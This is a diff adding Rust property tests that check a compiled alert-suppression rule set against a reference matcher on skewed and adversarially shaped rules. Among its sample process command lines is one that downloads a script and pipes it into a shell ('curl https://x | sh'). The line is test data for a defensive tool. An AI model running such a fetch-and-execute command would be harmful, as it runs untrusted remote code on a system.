@@ -248,3 +248,233 @@ proptest! {
         }
     }
 }
+
+// ---------------------------------------------------------------------------------------------
+// The skewed shape: many narrow rules over few popular types and small value pools, so that
+// index keys are shared by many rules and an alert meets many candidates.
+
+const SKEW_TYPES: &[&str] = &[
+    "VM_A", "vm_a", "VM_A", "VM_A", "K8S_B", "K8S_B", "SQL_C", "*",
+];
+const SKEW_FIELDS: &[(&str, &[&str])] = &[
+    ("entities.ip.address", &["10.0.0.1", "10.0.0.2", "52.1.2.3"]),
+    (
+        "entities.host.hostname",
+        &["PROD-web-01", "prod-db-02", "Test-VM"],
+    ),
+    (
+        "entities.process.commandline",
+        &[
+            "PowerShell.exe -NoProfile -File C:\\Scripts\\a.ps1",
+            "cmd.exe /c whoami",
+            "/bin/bash -c curl https://x | sh",
+        ],
+    ),
+    (
+        "entities.account.name",
+        &["CONTOSO\\alice", "svc-build", "Bob@Contoso.com"],
+    ),
+];
+
+fn recased(s: &str, style: u8) -> String {
+    match style % 3 {
+        0 => s.to_lowercase(),
+        1 => s.to_uppercase(),
+        _ => s.to_owned(),
+    }
+}
+
+fn skewed_cond() -> impl Strategy<Value = Value> {
+    (
+        0..SKEW_FIELDS.len(),
+        any::<bool>(),
+        0usize..3,
+        0usize..3,
+        1usize..4,
+        0usize..8,
+        3usize..11,
+        any::<u8>(),
+    )
+        .prop_map(|(f, is_in, v, v2, k, start, len, style)| {
+            let (field, pool) = SKEW_FIELDS[f];
+            if is_in {
+                let vals: Vec<String> = (0..k)
+                    .map(|j| recased(pool[(v + j * v2) % pool.len()], style.wrapping_add(j as u8)))
+                    .collect();
+                json!({"field": field, "in": vals})
+            } else {
+                let chars: Vec<char> = pool[v].chars().collect();
+                let len = len.min(chars.len());
+                let start = start.min(chars.len() - len);
+                let piece: String = chars[start..start + len].iter().collect();
+                json!({"field": field, "contains": recased(&piece, style)})
+            }
+        })
+}
+
+fn skewed_rules() -> impl Strategy<Value = Vec<SuppressionRule>> {
+    prop::collection::vec(
+        (
+            prop::sample::select(SKEW_TYPES.to_vec()),
+            prop::collection::vec(skewed_cond(), 1..4),
+            prop::option::of(-2i64..3),
+        ),
+        20..240,
+    )
+    .prop_map(|specs| {
+        specs
+            .into_iter()
+            .enumerate()
+            .map(|(i, (ty, conds, expiry))| {
+                let mut props = json!({
+                    "alertType": ty, "reason": "FalsePositive", "state": "Enabled",
+                    "suppressionAlertsScope": {"allOf": conds},
+                });
+                if let Some(h) = expiry {
+                    props["expirationDateUtc"] =
+                        json!((t0() + chrono::Duration::hours(h)).to_rfc3339());
+                }
+                SuppressionRule::from_json(json!({"name": format!("s{i}"), "properties": props}))
+                    .unwrap()
+            })
+            .collect()
+    })
+}
+
+fn skewed_alert() -> impl Strategy<Value = Alert> {
+    (
+        prop::sample::select(vec!["VM_A", "vm_a", "K8S_B", "SQL_C", "OTHER"]),
+        prop::collection::vec((0..SKEW_FIELDS.len(), 0usize..3, any::<u8>()), 0..6),
+    )
+        .prop_map(|(ty, ents)| {
+            let mut b = Alert::builder(AlertId::new("a").unwrap(), ty, "x", Severity::High, t0());
+            for (f, v, style) in ents {
+                let value = recased(SKEW_FIELDS[f].1[v], style / 3);
+                b = b.entity(match f {
+                    0 => Entity::ip(value),
+                    1 => Entity::host(value),
+                    2 => Entity::process(value),
+                    _ => Entity::account(value),
+                });
+            }
+            b.build()
+        })
+}
+
+// ---------------------------------------------------------------------------------------------
+// Hostile shapes: long value lists (past the size where sets and automata take over), long
+// wildcard lists, CIDR lists, lists inside anyOf and not, and more conditions than the index
+// counts.
+
+fn long_list_cond() -> impl Strategy<Value = Value> {
+    let op = prop::sample::select(vec![
+        "in",
+        "contains",
+        "startsWith",
+        "endsWith",
+        "wildcard",
+        "cidr",
+    ]);
+    (pick(FIELDS), op, 9usize..40, any::<bool>(), any::<u64>()).prop_map(
+        |(field, op, n, cs, seed)| {
+            // Filler values that match nothing, plus one real value from the pools.
+            let mut vals: Vec<String> = (0..n).map(|i| format!("zz{seed:x}q{i}")).collect();
+            let real: &[&str] = match op {
+                "wildcard" => PATTERNS,
+                "cidr" => CIDRS,
+                "in" => HOSTS,
+                _ => FRAGMENTS,
+            };
+            if op == "cidr" {
+                vals = (0..n)
+                    .map(|i| format!("172.{}.{}.0/24", 16 + (i % 16), i % 256))
+                    .collect();
+            } else if op == "wildcard" {
+                vals = vals.into_iter().map(|v| format!("*{v}*")).collect();
+            }
+            let at = (seed as usize) % vals.len();
+            vals[at] = real[(seed as usize / 7) % real.len()].to_owned();
+            let mut m = serde_json::Map::new();
+            m.insert("field".into(), Value::String(field));
+            m.insert(op.into(), json!(vals));
+            if cs && op != "cidr" {
+                m.insert("caseSensitive".into(), Value::Bool(true));
+            }
+            Value::Object(m)
+        },
+    )
+}
+
+fn hostile_cond() -> impl Strategy<Value = Value> {
+    prop_oneof![
+        3 => long_list_cond(),
+        1 => long_list_cond().prop_map(|c| json!({"anyOf": [c, {"field": "severity", "equals": "nonesuch"}]})),
+        1 => long_list_cond().prop_map(|c| json!({"not": c})),
+        2 => test_cond(),
+    ]
+}
+
+fn hostile_rules() -> impl Strategy<Value = Vec<SuppressionRule>> {
+    prop::collection::vec(
+        (
+            prop::sample::select(vec!["T1", "T2", "*"]),
+            prop::collection::vec(hostile_cond(), 0..11),
+            any::<bool>(),
+        ),
+        1..8,
+    )
+    .prop_map(|specs| {
+        specs
+            .into_iter()
+            .enumerate()
+            .map(|(i, (ty, conds, absent_match))| {
+                let mut props = json!({
+                    "alertType": ty, "reason": "FalsePositive", "state": "Enabled",
+                    "suppressionAlertsScope": {"allOf": conds},
+                });
+                if absent_match {
+                    props["whenEntityAbsent"] = json!("match");
+                }
+                SuppressionRule::from_json(json!({"name": format!("h{i}"), "properties": props}))
+                    .unwrap()
+            })
+            .collect()
+    })
+}
+
+fn agree(
+    rules: Vec<SuppressionRule>,
+    alerts: &[Alert],
+    at: DateTime<Utc>,
+) -> Result<(), TestCaseError> {
+    let set = RuleSet::compile(rules.clone()).unwrap();
+    let reference = ReferenceMatcher::new(rules).unwrap();
+    for a in alerts {
+        let want = names(reference.matching(a, at));
+        prop_assert_eq!(
+            &names(set.matching(a, at)),
+            &want,
+            "alert {}",
+            serde_json::to_string(a).unwrap()
+        );
+        prop_assert_eq!(
+            set.first_match(a, at).map(|r| r.name().to_owned()),
+            want.first().cloned()
+        );
+    }
+    Ok(())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]
+
+    #[test]
+    fn compiled_agrees_with_reference_on_skewed_rule_sets(rules in skewed_rules(), alerts in prop::collection::vec(skewed_alert(), 1..12), h in -3i64..4) {
+        agree(rules, &alerts, t0() + chrono::Duration::hours(h))?;
+    }
+
+    #[test]
+    fn compiled_agrees_with_reference_on_hostile_shapes(rules in hostile_rules(), alerts in prop::collection::vec(alert(), 1..8)) {
+        agree(rules, &alerts, t0())?;
+    }
+}
